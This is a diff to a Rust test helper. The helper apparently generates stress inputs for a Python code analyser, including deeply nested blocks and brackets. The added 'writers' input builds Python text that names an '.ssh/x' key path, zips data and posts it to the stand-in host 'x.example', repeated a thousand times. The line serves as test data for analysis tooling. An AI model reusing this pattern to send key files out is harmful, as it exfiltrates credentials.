@@ -13,7 +13,16 @@ fn shapes() -> Vec<(&'static str, String)> {
     for depth in 0..2_000 {
         let _ = writeln!(blocks, "{}if x:", " ".repeat(depth));
     }
+    // Everything that is sent may have come through everything that was opened.
+    let mut writers = "import requests, zipfile\nkey = '.ssh/x'\n".to_owned();
+    for n in 0..1_000 {
+        let _ = writeln!(
+            writers,
+            "z{n} = zipfile.ZipFile(b, 'w')\nz{n}.write(c)\nrequests.post('https://x.example', data=b)"
+        );
+    }
     vec![
+        ("writers", writers),
         ("parentheses", pairs("(", "1", ")")),
         ("lists", pairs("[", "1", "]")),
         ("dictionaries", pairs("{1:", "1", "}")),
